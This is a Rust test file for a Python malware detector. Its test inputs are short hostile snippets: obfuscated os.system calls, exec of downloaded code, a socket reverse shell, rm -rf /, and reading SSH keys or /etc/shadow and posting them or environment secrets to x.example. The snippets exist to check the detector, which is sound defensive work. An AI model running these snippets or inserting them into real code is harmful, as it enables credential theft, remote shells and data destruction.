//! What is found in Python programs: hostile ones by the fact that they show, ordinary ones by the facts that they do not.

use crate::code::told::{facts, hostile, ordinary};
use crate::language::Language;
use crate::{Limits, Subject, Surroundings, analyse};

/// The facts of `source` contain each of `expected`.
fn check(source: &str, expected: &[&str]) {
    hostile(Language::Python, source, expected);
}

#[test]
fn the_book_has_no_line_that_cannot_be_read() {
    assert_eq!(super::BOOK.wrong(), [] as [&str; 0]);
}

#[test]
fn names_are_followed_to_what_they_stand_for() {
    for source in [
        "import os\nos.system('id -u')",
        "import os as o\no.system('id -u')",
        "from os import system\nsystem('id -u')",
        "from os import system as s\ns('id -u')",
        "from os import *\nsystem('id -u')",
        "import os\nf = os.system\nf('id -u')",
        "import os\nf = g = os.system\ng('id -u')",
        "import os\n[f] = [os.system]\nf('id -u')",
        "import os\na, b = print, os.system\nb('id -u')",
        "import os\n(f := os.system)('id -u')",
        "import os\nclass A:\n    run = os.system\nA.run('id -u')",
        "import os\nclass A:\n    run = os.system\nA().run('id -u')",
        "import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def go(self):\n        self.f('id -u')",
        "import os\ndef go(f=os.system):\n    f('id -u')\ngo()",
        "import os\ndef go(f):\n    f('id -u')\ngo(os.system)",
        "import os\ndef go(f, x):\n    f(x)\ngo(x='id -u', f=os.system)",
        "import os\ndef go(command):\n    os.system(command)\ngo('id -u')",
        "import os\ndef go(*words):\n    os.system(words[0])\ngo('id -u')",
        "import os\ngo = lambda x: os.system(x)\ngo('id -u')",
        "import os\n(lambda f: f('id -u'))(os.system)",
        "import os\nlist(map(os.system, ['id -u']))",
        "import os\n[f('id -u') for f in [os.system]]",
        "import os\nfor f in (os.system,):\n    f('id -u')",
        "import os\nd = {'f': os.system}\nd['f']('id -u')",
        "import os\nd = {}\nd['f'] = os.system\nd['f']('id -u')",
        "import os\nimport functools\nfunctools.partial(os.system, 'id -u')()",
        "import os, threading\nthreading.Thread(target=os.system, args=('id -u',)).start()",
        "import os\ndef get():\n    return os.system\nget()('id -u')",
        "def get():\n    import os\n    return os\nget().system('id -u')",
        "import os\nf = os.system if True else print\nf('id -u')",
        "try:\n    from os import system as run\nexcept ImportError:\n    run = None\nrun('id -u')",
        "import os\nfrom contextlib import suppress\nwith suppress(OSError):\n    os.system('id -u')",
        "import os\nmatch 1:\n    case _:\n        os.system('id -u')",
        "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id -u',))",
        "import os\ndef use():\n    COMMAND_RUNNER(LINE)\nCOMMAND_RUNNER = os.system\nLINE = 'id -u'\nuse()",
        "import shutil\nshutil.os.system('id -u')",
        "import random\nrandom._os.system('id -u')",
        "import posix\nposix.system('id -u')",
        "async def go():\n    import os\n    await something(os.system('id -u'))",
        "from os import system\ndef decoy():\n    system = print\nsystem('id -u')",
    ] {
        check(source, &["calls os.system", "shell id -u"]);
    }
}

#[test]
fn a_decorator_is_a_call() {
    check("import os\n@os.system\ndef f():\n    pass", &["calls os.system"]);
    check("import os\n@lambda f: os.system('id')\ndef f():\n    pass", &["shell id"]);
    check("@exec\n@input\nclass X: pass", &["calls exec", "calls input"]);
}

#[test]
fn names_that_are_built_lead_where_they_lead() {
    for source in [
        "import os\ngetattr(os, 'sys' + 'tem')('id -u')",
        "import os\ngetattr(os, ''.join(['sy', 'stem']))('id -u')",
        "import os\ngetattr(os, 'metsys'[::-1])('id -u')",
        "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id -u')",
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id -u')",
        "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id -u')",
        "import os\ngetattr(os, chr(115) + 'ystem')('id -u')",
        "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('id -u')",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id -u')",
        "import os\ngetattr(os, 'syXtem'.replace('X', 's'))('id -u')",
        "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id -u')",
        "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('id -u')",
        "import os\na = 'sys'\ngetattr(os, f'{a}tem')('id -u')",
        "import os\ngetattr(os, 'xxsystemxx'[2:-2])('id -u')",
        "import os\ngetattr(os, '\\x73\\x79\\x73\\x74\\x65\\x6d')('id -u')",
        "import os\nos.__dict__['system']('id -u')",
        "import os\nvars(os)['sys' + 'tem']('id -u')",
        "__import__('os').system('id -u')",
        "__import__('o' + 's').system('id -u')",
        "import importlib\nimportlib.import_module('so'[::-1]).system('id -u')",
        "import sys\nsys.modules['os'].system('id -u')",
        "import builtins\nbuiltins.__import__('os').system('id -u')",
        "globals()['__builtins__'].__import__('os').system('id -u')",
        "__builtins__.__dict__['__import__']('os').system('id -u')",
        "f = lambda: 0\nf.__globals__['os'].system('id -u')",
    ] {
        check(source, &["calls os.system", "shell id -u"]);
    }
}

#[test]
fn a_word_that_was_decoded_is_told_as_obscured() {
    check("import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')", &["trick Obscured"]);
    check("__import__('o' + 's')", &["trick Obscured", "imports os"]);
    check("import os, base64\nos.system(base64.b64decode('aWQgLXU=').decode())", &["trick Obscured", "shell id -u"]);
    check("exec('\\x69\\x6d\\x70\\x6f\\x72\\x74 os')", &["trick Obscured", "imports os"]);
}

#[test]
fn a_name_that_is_not_known_is_told_for_modules_and_not_for_the_programs_own_objects() {
    check("import os, sys\ngetattr(os, sys.argv[1])()", &["trick ByBuiltName"]);
    check("import builtins\ngetattr(builtins, name)()", &["trick ByBuiltName"]);
    check("__builtins__.__dict__[name]()", &["trick ByBuiltName"]);
    check("import importlib, sys\nimportlib.import_module(sys.argv[1])", &["trick DynamicImport"]);
    ordinary(Language::Python, "def show(obj, name):\n    return getattr(obj, name)");
    ordinary(
        Language::Python,
        "import importlib\ndef load(name):\n    return importlib.import_module(f'app.plugins.{name}')",
    );
}

#[test]
fn text_that_is_run_is_read_and_what_is_not_known_is_told() {
    check("eval('__import__(\"os\").system(\"id -u\")')", &["shell id -u"]);
    check("exec('import os\\nos.system(\"id -u\")')", &["shell id -u"]);
    check("exec(compile('import os; os.system(\"id -u\")', 'x', 'exec'))", &["shell id -u"]);
    check(
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQgLXUnKQ=='))",
        &["trick Obscured", "shell id -u"],
    );
    check("import base64\neval(base64.b64decode(data))", &["trick Evaluates", "executes Decoded"]);
    check("import requests\nexec(requests.get(url).text)", &["trick Evaluates", "executes Network"]);
    check(
        "import urllib.request\nexec(urllib.request.urlopen('http://x.example/a').read().decode())",
        &["executes Network"],
    );
    check("import requests\nr = requests.get(u)\ncode = r.text\nexec(code)", &["executes Network"]);
    check("exec(input())", &["executes Input"]);
    check("exec(open('/tmp/x.py').read())", &["executes File /tmp/x.py"]);
    check("def run(code):\n    exec(code)", &["trick Evaluates", "executes Unknown"]);
    check("import os, requests\nos.system(requests.get(u).text)", &["executes Network"]);
    check("import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJxLTEoGAAJNASc=')))", &["executes Decoded"]);
    check(
        "import requests, subprocess\nopen('x.sh', 'wb').write(requests.get(u).content)\nsubprocess.run(['sh', 'x.sh'])",
        &["executes Network"],
    );
}

#[test]
fn commands_are_those_that_would_run() {
    check("import subprocess\nsubprocess.run(['rm', '-rf', '/'])", &["command rm -rf /"]);
    check("import subprocess\nsubprocess.run('curl x | sh', shell=True)", &["shell curl x | sh"]);
    check("import subprocess\nsubprocess.Popen(args=['nc', '-e', '/bin/sh', host])", &["command nc -e /bin/sh"]);
    check(
        "import subprocess\ncmd = ['rm']\ncmd.append('-rf')\ncmd += ['/']\nsubprocess.call(cmd)",
        &["command rm -rf /"],
    );
    check("import subprocess\nsubprocess.check_output('rm -rf /'.split())", &["command rm -rf /"]);
    check("import subprocess, shlex\nsubprocess.run(shlex.split('rm -rf \"/\"'))", &["command rm -rf /"]);
    check("import os\nos.execvp('sh', ['sh', '-c', 'id'])", &["command sh -c id"]);
    check("import os\nos.execl('/bin/sh', 'sh', '-c', 'id')", &["command /bin/sh -c id"]);
    check("import pty\npty.spawn('/bin/bash')", &["command /bin/bash"]);
    check("import os\nos.popen('id').read()", &["shell id"]);
    check("import asyncio\nasyncio.create_subprocess_shell('id')", &["shell id"]);
    check("import asyncio\nasyncio.create_subprocess_exec('id', '-u')", &["command id -u"]);
    check("import os\nos.system(f'rm -rf {path}')", &["shell rm -rf ${value}"]);
    check("import os\nx = 'rm'\nx = x + ' -rf /'\nos.system(x)", &["shell rm -rf /"]);
    check("import os\nos.posix_spawn('/bin/id', ['id', '-u'], {})", &["command /bin/id -u"]);
}

#[test]
fn files_are_followed_to_what_happens_to_them() {
    check("open('/etc/passwd')", &["reads /etc/passwd"]);
    check("open('/etc/passwd', 'a').write('x')", &["writes /etc/passwd"]);
    check("with open(file='/etc/cron.d/x', mode='w') as f:\n    f.write('x')", &["writes /etc/cron.d/x"]);
    check("from pathlib import Path\nPath('/etc/passwd').read_text()", &["reads /etc/passwd"]);
    check("from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_bytes()", &["reads ~/.ssh/id_rsa"]);
    check(
        "import pathlib\np = pathlib.Path('/etc') / 'shadow'\nwith p.open() as f:\n    f.read()",
        &["reads /etc/shadow"],
    );
    check("import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()", &["reads ~/.ssh/id_rsa"]);
    check("import shutil\nshutil.rmtree('/')", &["removes Tree /"]);
    check("import shutil\nshutil.rmtree(path='/home')", &["removes Tree /home"]);
    check("import os\nos.remove('/var/log/syslog')", &["removes One /var/log/syslog"]);
    check("import os\nos.chmod('/bin/sh', 0o4755)", &["mode 4755 /bin/sh", "privilege SetUserId"]);
    check("import os\nos.symlink('/etc/shadow', 'x')", &["link x /etc/shadow"]);
    check("import shutil\nshutil.copy('/etc/shadow', '/tmp/x')", &["reads /etc/shadow", "writes /tmp/x"]);
    check("import os\nos.rename('/etc/hosts', '/tmp/h')", &["removes One /etc/hosts", "writes /tmp/h"]);
    check(
        "import glob, os\nfor f in glob.glob('/home/*/.ssh/id_*'):\n    print(open(f).read())",
        &["reads /home/*/.ssh/id_*"],
    );
    check("import os\nfor root, dirs, files in os.walk('/'):\n    pass", &["reads /"]);
}

#[test]
fn what_leaves_is_told_with_where_it_goes() {
    check(
        "import requests\nrequests.post('https://x.example', data=open('/home/u/.ssh/id_rsa').read())",
        &["contacts Send https://x.example [File /home/u/.ssh/id_rsa]"],
    );
    check("import requests, os\nrequests.post(u, json=dict(os.environ))", &["[Environment]", "environment *"]);
    check(
        "import requests, os\nrequests.post(u, data={'k': os.environ['AWS_SECRET_ACCESS_KEY']})",
        &["[Environment]", "environment AWS_SECRET_ACCESS_KEY"],
    );
    check("import requests, os\nrequests.get(f'https://x.example/?{os.environ}')", &["[Environment]"]);
    check("import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))", &["contacts Connect 10.0.0.1:4444"]);
    check("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 80))", &["contacts Listen 0.0.0.0:80"]);
    check("import requests\ns = requests.Session()\ns.get('http://x.example')", &["contacts Fetch http://x.example"]);
    check(
        "import httpx\nwith httpx.Client() as c:\n    c.post('http://x.example', content=open('.env').read())",
        &["contacts Send http://x.example [File .env]"],
    );
    check(
        "import urllib.request\nurllib.request.urlretrieve('http://x.example/a', '/tmp/a')",
        &["contacts Fetch http://x.example/a", "writes /tmp/a"],
    );
    check("import smtplib\nsmtplib.SMTP('mail.example').sendmail('a', 'b', open('.env').read())", &["[File .env]"]);
    check("import paramiko\nc = paramiko.SSHClient()\nc.connect('x.example')", &["contacts Shell x.example"]);
    check(
        "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with s.get('http://x.example') as r:\n            exec(await r.text())",
        &["contacts Fetch http://x.example", "executes Network"],
    );
    check(
        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
        &["contacts Connect h:1", "command /bin/sh -i"],
    );
}

#[test]
fn inner_parts_of_the_language_are_told() {
    for source in [
        "().__class__.__base__.__subclasses__()",
        "''.__class__.__mro__[1].__subclasses__()",
        "[c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == 'x']",
        "'{0.__class__.__init__.__globals__}'.format(x)",
        "def f(): pass\nf.__globals__",
        "(x for x in ()).gi_frame.f_back.f_globals",
        "import sys\nsys._getframe(1).f_locals",
        "import gc\ngc.get_objects()",
        "import inspect\ninspect.currentframe().f_back.f_globals",
        "import inspect\ninspect.stack()[1].frame.f_locals",
        "f.__code__ = g.__code__",
        "try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_globals",
        "getattr((), '__cla' + 'ss__')\nobject.__subclasses__()",
        "print.__self__",
        "import types\ntypes.CodeType(0)",
    ] {
        check(source, &["trick InnerParts"]);
    }
}

#[test]
fn to_look_who_called_and_what_failed_is_no_inner_part() {
    for source in [
        "import inspect\nprint(inspect.currentframe().f_back.f_code.co_name)",
        "import sys\nprint(sys._getframe(1).f_lineno)",
        "try:\n    f()\nexcept Exception as e:\n    print(e.__traceback__.tb_frame.f_locals)",
    ] {
        crate::code::told::ordinary(crate::Language::Python, source);
    }
}

#[test]
fn other_ways_are_told_each_by_its_name() {
    check("import pickle\npickle.loads(data)", &["trick Deserialises"]);
    check(
        "import pickle, socket\ns = socket.socket()\npickle.loads(s.recv(1024))",
        &["trick Deserialises", "executes Network"],
    );
    check("import yaml\nyaml.load(data)", &["trick Deserialises"]);
    check("import yaml\nyaml.load(data, Loader=yaml.Loader)", &["trick Deserialises"]);
    check("import torch\ntorch.load('/tmp/m.pt')", &["trick Deserialises", "reads /tmp/m.pt"]);
    check("import marshal\nexec(marshal.loads(x))", &["trick Deserialises", "trick Evaluates"]);
    check("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", &["privilege ForeignCode"]);
    check("from ctypes import cdll\ncdll.LoadLibrary('libc.so.6')", &["privilege ForeignCode"]);
    check("import os\nos.setuid(0)", &["privilege OtherUser"]);
    check("import os\nos.chroot('/x')", &["privilege Namespaces"]);
    check("import os\nwhile True:\n    os.fork()", &["system Exhaustion"]);
    check("import os\nwhile 1: os.fork()", &["system Exhaustion"]);
    check("import os, signal\nos.kill(1, signal.SIGKILL)", &["system Kill 1"]);
    check("x = []\nwhile True:\n    x.append('a' * 1000000)", &["system Exhaustion"]);
    check("x = 'a' * 10 ** 12", &["system Exhaustion"]);
    check("import builtins\nbuiltins.open = evil", &["trick Redefines"]);
    check("import sys\nsys.modules['os'] = evil", &["trick Redefines"]);
    check("import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'", &["sets LD_PRELOAD=/tmp/x.so"]);
    check("import os\nos.getenv('HOME')", &["environment HOME"]);
    check("import os\nfor k, v in os.environ.items():\n    print(k, v)", &["environment *"]);
    check("ｅｘｅｃ('import os')", &["trick Lookalikes", "calls exec", "imports os"]);
    check("еval = 1\nprint(еval)", &["trick Lookalikes"]);
    check("import os\ndef f(x: os.system('id')): pass", &["shell id"]);
    check("import os\nx: os.system('id') = 1", &["shell id"]);
    check("import os\ndel x[os.system('id')]", &["shell id"]);
    check("import os\nf'{x:{os.system(\"id\")}}'", &["shell id"]);
    check("import os\nvars(os).get('system')('id')", &["shell id"]);
    check("import os\nd = dict(a=os.system)\nd.get('a')('id')", &["shell id"]);
    check("import glob, os\nfor f in glob.glob('/var/log/*'):\n    os.unlink(f)", &["removes One /var/log/*"]);
    check("from pathlib import Path\nfor p in Path('/etc').rglob('*'):\n    p.unlink()", &["removes One /etc"]);
    check("import docker\ndocker.from_env()", &["privilege ContainerEngine"]);
}

#[test]
fn what_is_not_python_is_unreadable_and_says_so() {
    check("def f(:\n", &["unreadable"]);
    check("print 'hello'\n", &["looks like Python 2"]);
}

#[test]
fn ordinary_programs_show_nothing_strange() {
    for source in super::ordinary::PROGRAMS {
        ordinary(Language::Python, source);
    }
}

#[test]
fn places_are_those_of_the_words() {
    let source = "import os\nos.system('id -u')\n";
    let analysis =
        analyse(Subject::Code { language: Language::Python, source }, &Surroundings::default(), &Limits::default());
    let spans: Vec<&str> = analysis.steps[0].facts.iter().map(|act| &source[act.span.start..act.span.end]).collect();
    assert_eq!(spans, ["os", "os.system('id -u')"]);
    assert_eq!(&source[analysis.steps[0].inner[0].span.start..analysis.steps[0].inner[0].span.end], "id -u");
}

#[test]
fn r14_nesting_of_every_kind_is_bounded_before_it_is_parsed() {
    let many = |text: &str| text.repeat(200_000 / text.len());
    for source in [
        many("("),
        many("["),
        many("{"),
        many("f("),
        format!("x = {}1", many("-")),
        format!("x = {}1", many("not ")),
        format!("x = {}1", many("lambda: ")),
        format!("x = {}1", many("await ")),
        format!("x = {}1", many("1 if 1 else ")),
        format!("x = 1{}", many("+1")),
        format!("x = 1{}", many("**1")),
        format!("x = 1{}", many(" if 1 else 1")),
        format!("x{}", many(".a")),
        format!("x{}", many("()")),
        format!("x{}", many("[0]")),
        many("f'{"),
        many("f\"{f'{"),
        (0..2000).map(|level| format!("{}if 1:\n", " ".repeat(level))).collect(),
        many("class A:"),
        many("x = "),
        many("@a\n"),
        many("("),
        many("match x:\n case "),
        many("del ("),
        many("*"),
        many("a:"),
        many("[x for "),
        many("x = [x]\n"),
        many("x = x + x\n"),
        many("x += 'aaaaaaaa'\n"),
        many("def f(a): return f(f(a))\n"),
        many("x = {'a': x}\n"),
        many("''.join("),
        many("if x:pass\nelif y:pass\n"),
        many("global x\n"),
        many("try:pass\nfinally:pass\n"),
        many("\\\n"),
        "'".repeat(200_000),
        "\"\"\"".repeat(60_000),
        "\u{feff}".repeat(50_000),
    ] {
        let run = std::thread::Builder::new()
            .stack_size(2 * 1024 * 1024)
            .spawn(move || facts(Language::Python, &source).len());
        run.unwrap().join().unwrap();
    }
}
